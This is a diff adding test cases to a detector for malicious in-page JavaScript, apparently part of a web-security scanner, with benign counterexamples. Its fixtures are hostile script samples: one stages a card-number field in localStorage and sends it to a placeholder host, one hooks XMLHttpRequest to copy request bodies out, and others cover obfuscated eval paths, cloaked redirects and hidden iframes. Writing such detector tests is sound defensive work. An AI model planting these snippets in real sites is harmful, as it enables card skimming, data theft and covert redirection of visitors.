@@ -88,6 +88,48 @@ describe('detectors', () => {
     assert.equal(detected(gated).get('drive-by-redirect'), 'medium');
   });
 
+  test('computed keys held in configuration objects and helper calls are read as names (storage staging through them)', () => {
+    const config = 'var c = { s: "localStorage" }; window[c.s].setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + window[c.s].getItem("k")); }, 9000);';
+    assert.equal(detected(config).get('storage-staging'), 'high');
+    const helper = 'var s = function () { return String.fromCharCode.apply(null, arguments); }; var st = window[s(115,101,115,115,105,111,110,83,116,111,114,97,103,101)]; st.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + st.getItem("k")); }, 9000);';
+    assert.equal(detected(helper).get('storage-staging'), 'high');
+    assert.ok(!detected('var c = { s: "theme" }; window[c.s] = 1; localStorage.setItem("k", "dark");').has('storage-staging'));
+  });
+
+  test('request hooks are recognised through aliases of the prototype, and are strong only with an outside host', () => {
+    const hook = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { new Image().src = "https://copy.example/c?d=" + btoa(b); return send.apply(this, arguments); };';
+    assert.equal(detected(hook).get('request-interception'), 'high');
+    const monitor = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { timings.push(Date.now()); return send.apply(this, arguments); };';
+    assert.equal(detected(monitor).get('request-interception'), 'low');
+  });
+
+  test('code run from a response or a decoder is traced back through named callbacks, helpers and methods', () => {
+    // `.then(run)` with `run` defined elsewhere, and eval saved from an object under a built name
+    assert.equal(detected('var run = function (t) { var e = w["ev" + "al"]; e(t); }; fetch(u).then(function (r) { return r.text(); }).then(run);').get('dynamic-code-execution'), 'high');
+    // a callback handed to a request helper, which calls it with the response body
+    assert.equal(detected('function g(u, c) { var x = new XMLHttpRequest(); x.open("GET", u); x.onload = function () { c(x.responseText); }; x.send(); } function r(t) { new Function(t)(); } g("/x", r);').get('dynamic-code-execution'), 'high');
+    // a static method that decodes, a cipher run by [].filter.constructor, setTimeout on the global object via `this`
+    assert.equal(detected('class M { static r() { return [1, 2].map((v) => String.fromCharCode(v + 64)).join(""); } } new Function(M.r())();').get('dynamic-code-execution'), 'high');
+    assert.equal(detected('var s = atob(p).split("").reverse().join(""); []["filter"]["constructor"](s)();').get('dynamic-code-execution'), 'high');
+    assert.equal(detected('(function (g) { var c = String.fromCharCode.apply(null, codes); g["setTimeout"](c, 0); })(this);').get('dynamic-code-execution'), 'high');
+    // callbacks stay callbacks
+    assert.ok(!detected('function tick() { render(); } (function (g) { g.setTimeout(tick, 10); })(this); fetch(u).then(function (r) { return r.json(); }).then(show);').has('dynamic-code-execution'));
+  });
+
+  test('JSONP and meta-refresh redirects chosen by a remote script', () => {
+    const jsonp = 'var cb = "_cb" + Date.now(); window[cb] = function (r) { var m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + r.u; document.head.appendChild(m); }; var s = document.createElement("script"); s.src = "https://tds.example/in.js?cb=" + cb; document.head.appendChild(s);';
+    assert.equal(detected(jsonp).get('drive-by-redirect'), 'medium');
+    const cloaked = 'class R { static send(p) { return new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok(JSON.parse(x.responseText)); x.send(p); }); } static go(d) { window.location.replace(d.target); } } if (!("callPhantom" in window)) R.go(await R.send(1));';
+    assert.equal(detected(cloaked).get('drive-by-redirect'), 'medium');
+    assert.equal(detected('window.onDone = function () { location.reload(); }; var m = document.createElement("meta"); m.content = "width=device-width";').get('drive-by-redirect'), undefined);
+  });
+
+  test('a hidden frame made by a helper and pointed at one of a rotating list of hosts', () => {
+    const helper = (urls: string): string => `var pick = [${urls}][Math.floor(Math.random() * 2)]; function frame(src) { var f = document.createElement("iframe"); f.setAttribute("src", src); f.setAttribute("width", "0"); document.body.appendChild(f); } frame(pick + "?z=1"); frame(pick + "?z=2");`;
+    assert.equal(detected(helper('"https://a.example/ad", "https://b.example/p"')).get('hidden-iframe'), 'high');
+    assert.equal(detected(helper('"/frames/a.html", "/frames/b.html"')).get('hidden-iframe'), 'low');
+  });
+
   test('a hidden frame without a named host is only a weak signal', () => {
     assert.equal(detected('var f = document.createElement("iframe"); f.style.display = "none"; document.body.appendChild(f);').get('hidden-iframe'), 'low');
   });
